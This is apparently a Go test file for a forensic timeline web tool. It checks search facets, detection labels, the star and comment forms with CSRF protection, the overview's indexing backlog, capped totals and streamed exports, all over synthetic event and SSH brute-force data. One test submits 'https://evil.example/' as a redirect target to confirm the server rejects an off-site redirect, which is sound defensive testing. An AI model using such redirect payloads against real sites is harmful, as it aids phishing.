			if status != 200 || !strings.Contains(body, `id="facet-EventID"`) || !strings.Contains(body, "EventID%3A%224625%22") {
				t.Fatalf("facets missing: %d", status)
			}
			// A row names the rules that tagged its event.
			if !strings.Contains(body, `<small class="detection" title="sigma high: proc-creation-win-powershell-enc">Encoded PowerShell command line</small>`) {
				t.Errorf("the timeline rows do not name their detections")
			}
		})

		t.Run("TimelineForms", func(t *testing.T) {
			// Without JavaScript, stars and comments are forms on the page's own routes.
			c, csrf := env.loginCSRF(t)
			e7 := env.events[6]
			back := fmt.Sprintf("/projects/%d/timeline?host=web01", pid)
			post := func(path string, form url.Values) *http.Response {
				res, err := c.PostForm(env.url("/projects/%d/timeline/%s", pid, path), form)
				if err != nil {
					t.Fatal(err)
				}
				res.Body.Close()
				return res
			}
			res := post("star", url.Values{"csrf": {csrf}, "id": {fmt.Sprint(e7.ID)}, "star": {"true"}, "back": {back}})
			if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != back {
				t.Fatalf("star form = %d to %q", res.StatusCode, res.Header.Get("Location"))
			}
			if e, err := env.srv.Events.FindEventByID(context.Background(), pid, e7.ID); err != nil || !e.Starred {
				t.Fatalf("after the star form: %+v, %v", e, err)
			}
			res = post("star", url.Values{"id": {fmt.Sprint(e7.ID)}, "star": {"false"}})
			if res.StatusCode != http.StatusForbidden {
				t.Fatalf("star form without the CSRF token = %d, want 403", res.StatusCode)
			}
			res = post("comment", url.Values{"csrf": {csrf}, "scope": {"query"}, "filter": {"q=EventID:4688&host=dc01"}, "text": {"Process creations to review"},
				"back": {"https://evil.example/"}})
			if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != fmt.Sprintf("/projects/%d/timeline", pid) {
				t.Fatalf("bulk comment form = %d to %q", res.StatusCode, res.Header.Get("Location"))
			}
			for _, e := range []*quarry.Event{env.events[3], env.events[4]} {
				cs, err := env.srv.Events.FindComments(context.Background(), pid, e.ID)
				if err != nil || len(cs) == 0 || cs[len(cs)-1].Text != "Process creations to review" {
					t.Fatalf("comments of event %d = %+v, %v", e.ID, cs, err)
				}
			}
			// Star every event of web01 with the page's bulk form, then unstar them all from the
			// starred view, as its "Unstar all matching" button does.
			status, body := 0, ""
			if res, err := c.Get(env.url("/projects/%d/timeline?host=web01", pid)); err == nil {
				b, _ := io.ReadAll(res.Body)
				res.Body.Close()
				status, body = res.StatusCode, string(b)
			}
			if status != 200 || !strings.Contains(body, `id="star-all"`) || !strings.Contains(body, `id="unstar-all"`) {
				t.Fatalf("timeline has no bulk star forms: %d", status)
			}
			starred := func() int64 {
				page, err := env.srv.Events.FindEvents(context.Background(), quarry.EventFilter{ProjectID: pid, Starred: true})
				if err != nil {
					t.Fatal(err)
				}
				return page.Total
			}
			post("star", url.Values{"csrf": {csrf}, "scope": {"query"}, "filter": {"host=web01"}, "star": {"true"}})
			if n := starred(); n < 3 {
				t.Fatalf("after star all on web01: %d starred", n)
			}
			post("star", url.Values{"csrf": {csrf}, "scope": {"query"}, "filter": {"starred=true"}, "star": {"false"}})
			if n := starred(); n != 0 {
				t.Fatalf("after unstar all: %d starred", n)
			}
		})

		t.Run("OverviewPage", func(t *testing.T) {
			c := env.login(t)
			res, err := c.Get(env.url("/projects/%d/overview", pid))
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			body := string(b)
			if res.StatusCode != 200 || !strings.Contains(body, env.dcEvidence.SHA256) || !strings.Contains(body, `id="overview-events">12`) || !strings.Contains(body, "bash_history") {
				t.Fatalf("overview = %d\n%s", res.StatusCode, body)
			}
			// SQLite's full-text index is built behind the inserts: the overview says how far
			// behind it is, and nothing once it has caught up.
			if env.db.Dialect() == sqldb.DialectSQLite {
				if !strings.Contains(body, `id="search-backlog"`) {
					t.Errorf("overview does not show the full-text backlog:\n%s", body)
				}
				for {
					n, err := sqldb.NewEventService(env.db).IndexSearch(context.Background(), 1000)
					if err != nil {
						t.Fatal(err)
					}
					if n == 0 {
						break
					}
				}
			}
			res, err = c.Get(env.url("/projects/%d/overview", pid))
			if err != nil {
				t.Fatal(err)
			}
			b, _ = io.ReadAll(res.Body)
			res.Body.Close()
			if body := string(b); !strings.Contains(body, `id="overview-events">12<`) {
				t.Errorf("overview after indexing shows a backlog:\n%s", body)
			}
		})
	})
}

// login opens a browser-like session for bob (the analyst) and returns a client carrying it.
func (env *eventsEnv) login(t *testing.T) *http.Client {
	c, _ := env.loginCSRF(t)
	return c
}

// loginCSRF is login that also returns the session's CSRF token, for forms.
func (env *eventsEnv) loginCSRF(t *testing.T) (*http.Client, string) {
	t.Helper()
	sess, secret, _, err := env.srv.Auth.Login(context.Background(), "bob", env.analystPW, "127.0.0.1", "test")
	if err != nil {
		t.Fatal(err)
	}
	return &http.Client{Transport: cookieTransport{secret}, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}, sess.CSRFToken
}

type cookieTransport struct{ secret string }

func (c cookieTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.AddCookie(&http.Cookie{Name: sessionCookie, Value: c.secret})
	return http.DefaultTransport.RoundTrip(r)
}

// escapeQuery encodes a readable query string (a=b&c=d e) for a URL.
func escapeQuery(q string) string {
	if q == "" {
		return ""
	}
	v := url.Values{}
	for _, kv := range strings.Split(q, "&") {
		k, val, _ := strings.Cut(kv, "=")
		v.Add(k, val)
	}
	return v.Encode()
}

// gatedEvents holds an export's stream after gateAfter rows until the client has read its first
// line: were the server to gather the export before sending it, the client would see nothing
// and the gate would time out.
type gatedEvents struct {
	quarry.EventService
	gateAfter int
	opened    chan struct{}
	timedOut  atomic.Bool
}

func (g *gatedEvents) EachEvent(ctx context.Context, f quarry.EventFilter, fn func(*quarry.Event) error) error {
	n := 0
	return g.EventService.EachEvent(ctx, f, func(e *quarry.Event) error {
		n++
		if n == g.gateAfter {
			select {
			case <-g.opened:
			case <-time.After(20 * time.Second):
				g.timedOut.Store(true)
			case <-ctx.Done():
				return ctx.Err()
			}
		}
		return fn(e)
	})
}

// TestEventsExportStreams exports 50,000 events (10,000 under -race) and checks that the first rows reach the client
// while the store is still producing the rest.
// TestEventsCappedTotal: a listing stops counting at the server's cap and says so (the page
// itself is complete); exact_total counts them all; the timeline shows "N+" with a link that
// asks for the exact count.
func TestEventsCappedTotal(t *testing.T) {
	t.Parallel()
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	env := newEventsEnv(t, db, nil, func(s *Server) { s.EventTotalUpTo = 5 })
	base := fmt.Sprintf("/api/v1/projects/%d/events", env.project.ID)
	for _, tc := range []struct {
		query string
		total int64
		exact bool
	}{
		{"", 5, false},
		{"exact_total=true", 12, true},
		{"host=dc01&exact_total=false", 5, false},
		{"q=EventID:4625", 2, true},
	} {
		r := env.do(t, "GET", base+"?"+escapeQuery(tc.query), env.viewer, nil)
		var l struct {
			Events     []any `json:"events"`
			Total      int64 `json:"total"`
			TotalExact bool  `json:"total_exact"`
		}
		r.json(t, &l)
		if r.status != 200 || l.Total != tc.total || l.TotalExact != tc.exact || (tc.query == "" && len(l.Events) != 12) {
			t.Errorf("GET ?%s = %d: %d events, total %d exact %v; want total %d exact %v", tc.query, r.status, len(l.Events), l.Total, l.TotalExact, tc.total, tc.exact)
		}
	}
	if r := env.do(t, "GET", base+"?exact_total=maybe", env.viewer, nil); r.status != 400 {
		t.Errorf("exact_total=maybe = %d, want 400", r.status)
	}
	c := env.login(t)
	res, err := c.Get(env.url("/projects/%d/timeline", env.project.ID))
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	body := string(b)
	if !strings.Contains(body, `id="event-total">5+<`) || !strings.Contains(body, `id="count-all"`) || !strings.Contains(body, "exact_total=true") {
		t.Fatalf("timeline page does not show a capped total with a link to count all:\n%s", body)
	}
	res, err = c.Get(env.url("/projects/%d/timeline?exact_total=true", env.project.ID))
	if err != nil {
		t.Fatal(err)
	}
	b, _ = io.ReadAll(res.Body)
	res.Body.Close()
	if body = string(b); !strings.Contains(body, `id="event-total">12<`) || strings.Contains(body, `id="count-all"`) {
		t.Fatalf("timeline page with exact_total:\n%s", body)
	}
}

func TestEventsExportStreams(t *testing.T) {
	t.Parallel()
	total := 50_000
	if raceEnabled {
		total = 10_000 // the gate proves streaming at any size; the race detector makes inserts slow
	}
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	gate := &gatedEvents{gateAfter: total / 2, opened: make(chan struct{})}
	env := newEventsEnv(t, db, func(s quarry.EventService) quarry.EventService { gate.EventService = s; return gate })
	ctx := context.Background()
	big := &quarry.Project{Name: "Big case", CreatedBy: 1}
	if err := env.srv.Projects.CreateProject(ctx, big); err != nil {
		t.Fatal(err)
	}
	start := at("2026-11-01T00:00:00Z")
	batch := make([]*quarry.Event, 0, 5000)
	for i := range total {
		batch = append(batch, &quarry.Event{ProjectID: big.ID, EvidenceID: 1, Timestamp: start.Add(time.Duration(i) * time.Second),
			TimestampDesc: "Event Time", Source: "auth.log", Host: fmt.Sprintf("web%02d", i%20), User: "root",
			Message: fmt.Sprintf("Failed password for root from 198.51.100.%d port %d ssh2", i%250, 40000+i%20000), Path: "/var/log/auth.log",
			Fields: map[string]any{"program": "sshd", "pid": int64(1000 + i%5000), "src_ip": fmt.Sprintf("198.51.100.%d", i%250)}})
		if len(batch) == cap(batch) {
			if err := gate.InsertEvents(ctx, batch); err != nil {
				t.Fatal(err)
			}
			batch = batch[:0]
		}
	}
	for _, format := range []string{"jsonl", "csv"} {
		t.Run(format, func(t *testing.T) {
			gate.opened = make(chan struct{})
			req, _ := http.NewRequest("GET", env.url("/api/v1/projects/%d/events/export?format=%s", big.ID, format), nil)
			req.Header.Set("Authorization", "Bearer "+env.viewer)
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer res.Body.Close()
			if res.StatusCode != 200 {
				t.Fatalf("export: %d", res.StatusCode)
			}
			sc := bufio.NewScanner(res.Body)
			sc.Buffer(make([]byte, 64<<10), 1<<20)
			lines := 0
			var prev string
			for sc.Scan() {
				if lines == 0 {
					close(gate.opened) // the first line arrived while the server is mid-stream
				}
				if format == "jsonl" {
					var m struct {
						Timestamp int64 `json:"timestamp"`
					}
					if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
						t.Fatalf("line %d: %v", lines, err)
					}
				}
				prev = sc.Text()
				lines++
			}
			if err := sc.Err(); err != nil {
				t.Fatal(err)
			}
			want := total
			if format == "csv" {
				want++ // the header
			}
			if lines != want {
				t.Fatalf("export has %d lines, want %d (last %q)", lines, want, prev)
			}
			if gate.timedOut.Load() {
				t.Fatal("the export's first line reached the client only after the store had produced half of the events: it is not streamed")
			}
		})
	}
}
